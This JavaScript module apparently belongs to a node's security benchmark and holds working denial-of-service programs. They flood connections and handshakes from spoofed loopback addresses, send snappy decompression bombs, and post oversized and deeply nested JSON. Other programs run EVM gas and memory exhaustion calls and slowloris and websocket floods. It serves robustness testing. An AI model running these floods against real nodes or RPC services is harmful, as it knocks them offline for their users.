// long: the programs that attack a node for bench/attacks.mjs, one entry each.
// Each runs in a process of its own until it is killed, and tells every second how often it did what it does.
import { connect as connectTcp } from "node:net";
import { request } from "node:http";
import { WebSocket } from "ws";

const at = (path) => import(new URL(`../dist/${path}`, import.meta.url).href);
const { HandshakeMachine, compress } = await at("p2p/rlpx/index.js");
const { encodeHello } = await at("p2p/hello.js");
const { generateKey, publicKeyOf, systemEntropy: entropy } = await at("crypto/index.js");
const { fromHex, toHex } = await at("util/index.js");

let did = 0;
let refused = 0;
let lastIp = 0;
/** Another address of the loopback network each time: what comes from the same one is throttled elsewhere. */
const anotherIp = () => {
  lastIp = (lastIp % 0xfffffe) + 1;
  return `127.${lastIp >> 16}.${(lastIp >> 8) & 255}.${lastIp & 255}`;
};
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const parseEnode = (enode) => {
  const [, key, host, port] = /^enode:\/\/([0-9a-f]{128})@([^:]+):(\d+)/.exec(enode);
  return { publicKey: fromHex(`0x${key}`), host, port: Number(port) };
};

const socketTo = ({ host, port }) => {
  const socket = connectTcp({ host, port, localAddress: anotherIp(), noDelay: true });
  socket.on("error", () => {});
  return socket;
};

/** A peer after both hellos; `send` and `snappy` take any code and any bytes. Undefined if it is refused. */
async function peer(target, caps) {
  const key = generateKey();
  const socket = socketTo(target);
  const machine = new HandshakeMachine({ key, entropy, remotePublicKey: target.publicKey });
  socket.once("connect", () => socket.write(machine.start()));
  const shaken = await new Promise((resolve) => {
    socket.once("close", () => resolve(undefined));
    socket.on("data", function onData(chunk) {
      const result = machine.push(chunk);
      if (result === undefined) return;
      socket.off("data", onData);
      resolve(result);
    });
  });
  if (shaken === undefined) return undefined;
  const { writer, reader } = shaken.established;
  socket.on("data", (chunk) => reader.push(chunk));
  const send = (code, payload) => !socket.destroyed && socket.write(writer.seal(code, payload));
  send(0, encodeHello({ version: 5, name: "attacker", caps, publicKey: publicKeyOf(key) }));
  return { socket, send, snappy: (code, payload) => send(code, compress(payload)) };
}

/** `at once` copies of a loop, for ever. */
const forEver = (atOnce, step) =>
  Promise.all(
    Array.from({ length: atOnce }, async () => {
      for (;;) {
        try {
          if ((await step()) === false) refused++;
          else did++;
        } catch {
          refused++;
        }
      }
    }),
  );
/** `perSecond` times a second, whatever becomes of each; fewer where this process does not come to it. */
function atRate(perSecond, step) {
  let last = performance.now();
  setInterval(() => {
    const now = performance.now();
    const due = Math.round(((Math.min(now, last + 40) - last) / 1000) * perSecond);
    last = now;
    for (let i = 0; i < due; i++) {
      did++;
      void Promise.resolve(step()).catch(() => refused++);
    }
  }, 10);
}

const caps = [
  ...[2, 3, 4].map((version) => ({ name: "les", version })),
  ...[66, 67, 68].map((version) => ({ name: "eth", version })),
];
const EMPTY_LIST = Uint8Array.of(0xc0);
const PING = 2;
const DISCONNECT = 1;

function post(url, body, headers = {}) {
  return new Promise((resolve, reject) => {
    const asking = request(url, {
      method: "POST",
      headers: { "content-type": "application/json", ...headers },
    });
    asking.on("response", (response) => {
      response.resume();
      response.on("end", () => resolve(response.statusCode === 200));
      response.on("error", reject);
    });
    asking.on("error", reject);
    asking.end(body);
  });
}
const rpc = (method, ...params) => ({ jsonrpc: "2.0", id: 1, method, params });
const target = `0x${"77".repeat(20)}`;
const callOf = (code) => JSON.stringify(rpc("eth_call", { to: target }, "latest", { [target]: { code } }));
const rounds = `${(40_000_000).toString(16).padStart(8, "0")}${"00".repeat(28)}`;
const bombs = {
  loop: "0x5b600056",
  // PUSH32 rounds, MSTORE; then precompile 9 for ever
  blake: `0x7f${rounds}6000525b6040600060d5600060095afa50602456`,
  // 64 KiB touched, then itself again
  memory: `0x600161ffe0526000600060006000600073${"77".repeat(20)}5af100`,
  // one frame of 4.75 MiB, nearly all that the gas pays for
  frame: "0x6001624c000052",
};

const websocket = (url) =>
  new Promise((resolve, reject) => {
    const socket = new WebSocket(url.replace("http", "ws"), { perMessageDeflate: false });
    socket.on("open", () => resolve(socket));
    socket.on("error", reject);
  });

export const programs = {
  // RX-13: connections that say nothing
  connects: ({ enode }) => {
    const to = parseEnode(enode);
    atRate(5_000, () => {
      const socket = socketTo(to);
      socket.on("close", () => refused++);
      setTimeout(() => socket.destroy(), 6_000);
    });
  },
  // RX-14: handshakes that cost the node its curve arithmetic
  handshakes: ({ enode }) => {
    const to = parseEnode(enode);
    const auths = Array.from({ length: 64 }, () =>
      new HandshakeMachine({ key: generateKey(), entropy, remotePublicKey: to.publicKey }).start(),
    );
    let next = 0;
    atRate(1_000, () => {
      const socket = socketTo(to);
      socket.once("connect", () => socket.write(auths[next++ % auths.length]));
      socket.on("close", () => refused++);
      socket.on("data", () => socket.destroy());
    });
  },
  // BP-01
  pings: ({ enode }) =>
    forEver(4, async () => {
      const link = await peer(parseEnode(enode), caps);
      if (link === undefined) return false;
      link.socket.pause(); // pongs are not read
      for (let i = 0; i < 2_000 && !link.socket.destroyed; i++) {
        link.snappy(PING, EMPTY_LIST);
        if (i % 200 === 0) await sleep(1);
      }
      link.socket.destroy();
      return true;
    }),
  // BP-04
  disconnects: ({ enode }) =>
    forEver(16, async () => {
      const link = await peer(parseEnode(enode), caps);
      if (link === undefined) return false;
      link.snappy(DISCONNECT, Uint8Array.of(0xc1, 0x04));
      link.socket.end();
      return true;
    }),
  // BP-06: seven bytes that claim a gigabyte, and a megabyte of zeros in 50 KB
  bombs: ({ enode }) => {
    const zeros = compress(new Uint8Array(1 << 20));
    return forEver(8, async () => {
      const link = await peer(parseEnode(enode), caps);
      if (link === undefined) return false;
      for (const bytes of [Uint8Array.of(0x80, 0x80, 0x80, 0x80, 0x04, 0, 0), zeros]) link.send(16, bytes);
      await new Promise((resolve) => link.socket.once("close", resolve).resume());
      return true;
    });
  },
  // BP-09, BP-10: peers that ask and never read
  deaf: ({ enode }) =>
    forEver(24, async () => {
      const link = await peer(parseEnode(enode), caps);
      if (link === undefined) return false;
      link.socket.pause();
      // GetBlockHeaders of both protocols: [reqId, [0, 192, 0, 0]]
      for (let i = 0; i < 200 && !link.socket.destroyed; i++)
        for (const code of [0x12, 0x13, 0x22, 0x23])
          link.snappy(code, Uint8Array.of(0xc7, i & 0x7f, 0xc5, 0x80, 0x81, 192, 0x80, 0x80));
      await sleep(500);
      link.socket.destroy();
      return true;
    }),
  // LE-04, LE-07: requests for proofs without a status, and without regard to any buffer
  requests: ({ enode }) =>
    forEver(8, async () => {
      const link = await peer(parseEnode(enode), caps);
      if (link === undefined) return false;
      for (let i = 0; i < 500 && !link.socket.destroyed; i++) {
        link.snappy(0x10 + 0x0f, Uint8Array.of(0xc2, i & 0x7f, 0xc0));
        if (i % 50 === 0) await sleep(1);
      }
      link.socket.destroy();
      return true;
    }),
  // RP-04: bodies over the limit, told and untold
  bodies: ({ url }) => {
    const big = Buffer.alloc((5 << 20) + 1, 0x20);
    return forEver(8, () =>
      post(url, big, did % 2 === 0 ? { "content-length": big.length } : { "transfer-encoding": "chunked" }),
    );
  },
  // RP-07
  batches: ({ url }) => {
    const logs = rpc("eth_getLogs", { fromBlock: "0x0", toBlock: "latest" });
    const batch = JSON.stringify(Array.from({ length: 1_000 }, () => logs));
    return forEver(4, () => post(url, batch));
  },
  // RP-08: nesting, keys, digits
  json: ({ url }) => {
    const bodies = [
      "[".repeat(2_500_000),
      `{${'"a":1,'.repeat(500_000)}"b":1}`,
      `[${"9".repeat(5_000_000)}]`,
    ];
    return forEver(4, () => post(url, bodies[did % bodies.length]));
  },
  // RP-12
  loops: ({ url }) => forEver(24, () => post(url, callOf(bombs.loop))),
  blakes: ({ url }) => forEver(24, () => post(url, callOf(bombs.blake))),
  memories: ({ url }) => forEver(24, () => post(url, callOf(bombs.memory))),
  frames: ({ url }) => forEver(24, () => post(url, callOf(bombs.frame))),
  // 2.4 MB of code that overrides an account's
  codes: ({ url }) => {
    const body = callOf(`0x${"5b".repeat(2_400_000)}`);
    return forEver(24, () => post(url, body));
  },
  // RP-15, RP-16: subscriptions that are not read, pings, messages over the limit
  websockets: ({ url }) =>
    forEver(16, async () => {
      const socket = await websocket(url);
      socket._socket.pause();
      for (let i = 0; i < 300; i++) socket.send(JSON.stringify(rpc("eth_subscribe", "newHeads")));
      for (let i = 0; i < 2_000; i++) socket.ping("x".repeat(100));
      for (let i = 0; i < 200; i++) socket.send(JSON.stringify(rpc("eth_getBlockByNumber", "latest", true)));
      await sleep(200);
      socket.terminate();
      return true;
    }),
  // RP-05, RP-06: thousands of connections that drip
  idle: ({ url }) => {
    const { hostname, port } = new URL(url);
    const sockets = new Set();
    atRate(400, () => {
      const socket = connectTcp({ host: hostname, port: Number(port), localAddress: anotherIp() });
      sockets.add(socket);
      socket.on("error", () => {});
      socket.on("close", () => {
        sockets.delete(socket);
        refused++;
      });
      socket.write("POST / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ");
    });
    setInterval(() => {
      for (const socket of sockets) socket.write("a");
    }, 1_000);
  },
  // RP-19: cheap and dear requests in a mix, a thousand a second
  mix: ({ url }) => {
    const bodies = [
      rpc("eth_blockNumber"),
      rpc("eth_getBlockByNumber", "latest", true),
      rpc("eth_feeHistory", "0x400", "latest", [10, 50, 90]),
      rpc(
        "eth_getProof",
        target,
        Array.from({ length: 64 }, (_, i) => toHex(new Uint8Array(32).fill(i))),
        "latest",
      ),
      rpc("eth_getLogs", { fromBlock: "0x0", toBlock: "latest" }),
    ].map((body) => JSON.stringify(body));
    let next = 0;
    atRate(1_000, () => post(url, bodies[next++ % bodies.length]));
  },
};

if (process.send !== undefined) {
  setInterval(() => process.send({ did, refused }), 250).unref();
  process.on("uncaughtException", () => refused++);
  const [name, place] = process.argv.slice(2);
  void programs[name](JSON.parse(place));
}
